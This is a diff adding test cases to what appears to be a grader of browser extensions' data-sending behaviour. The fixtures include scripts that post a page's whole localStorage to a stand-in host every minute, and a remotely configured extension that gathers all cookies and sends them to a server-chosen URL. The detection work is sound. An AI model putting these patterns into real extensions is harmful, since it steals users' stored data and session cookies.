@@ -453,6 +453,53 @@ describe('the grade of what sends data', () => {
       },
       ['D', 'F'],
     ],
+    [
+      'all that a page has stored, every minute',
+      {
+        content:
+          "setInterval(() => { const s = { ...localStorage }; fetch('https://api.notes.example/up', { method: 'POST', body: JSON.stringify(s) }); }, 60000);",
+        manifest: {
+          content_scripts: [{ matches: ['https://chat.example/*'], js: ['content.js'] }],
+          host_permissions: ['https://api.notes.example/*'],
+        },
+      },
+      ['F'],
+    ],
+    [
+      'all that a page has stored, one after the other',
+      {
+        content:
+          "setInterval(() => { const s = {}; for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); s[k] = localStorage.getItem(k); } fetch('https://api.notes.example/up', { method: 'POST', body: JSON.stringify(s) }); }, 60000);",
+        manifest: {
+          content_scripts: [{ matches: ['https://chat.example/*'], js: ['content.js'] }],
+          host_permissions: ['https://api.notes.example/*'],
+        },
+      },
+      ['F'],
+    ],
+    [
+      'one thing that a page has stored',
+      {
+        content:
+          "setInterval(() => { const s = localStorage.getItem('theme'); fetch('https://api.notes.example/up', { method: 'POST', body: JSON.stringify(s) }); }, 60000);",
+        manifest: {
+          content_scripts: [{ matches: ['https://chat.example/*'], js: ['content.js'] }],
+          host_permissions: ['https://api.notes.example/*'],
+        },
+      },
+      ['B', 'C', 'D'],
+    ],
+    [
+      'cookies to where a server says, by one function that asks for everything',
+      {
+        content:
+          "const ask = (m) => new Promise((done) => chrome.runtime.sendMessage(m, done)); (async () => { const { c } = await chrome.storage.local.get('c'); const a = await ask({ t: 'text', url: c.a }); const b = await ask({ t: 'json', url: c.b + a }); const d = await ask({ t: 'json', url: c.d + a + b }); const e = await ask({ t: 'json', url: c.e + '?d=' + encodeURIComponent(d) }); ask({ t: 'send', url: c.to, of: c.of, all: { a, b, d, e } }); })();",
+        background:
+          "chrome.runtime.onInstalled.addListener(async () => { chrome.storage.local.set({ c: await (await fetch('https://api.notes.example/c')).json() }); }); chrome.runtime.onMessage.addListener((m, s, reply) => { switch (m.t) { case 'text': fetch(m.url).then((r) => r.text()).then(reply); return true; case 'json': fetch(m.url).then((r) => r.json()).then(reply); return true; case 'send': chrome.cookies.getAll({ url: m.of }, (list) => fetch(m.url, { method: 'POST', body: JSON.stringify({ list, all: m.all }) })); return true; } });",
+        popup: "document.querySelector('#b').onchange = (e) => chrome.storage.local.set({ dark: e.target.checked });",
+      },
+      ['F'],
+    ],
   ] as const)('%s', async (_, parts, grades) => {
     expect(grades).toContain(await graded(parts));
   });
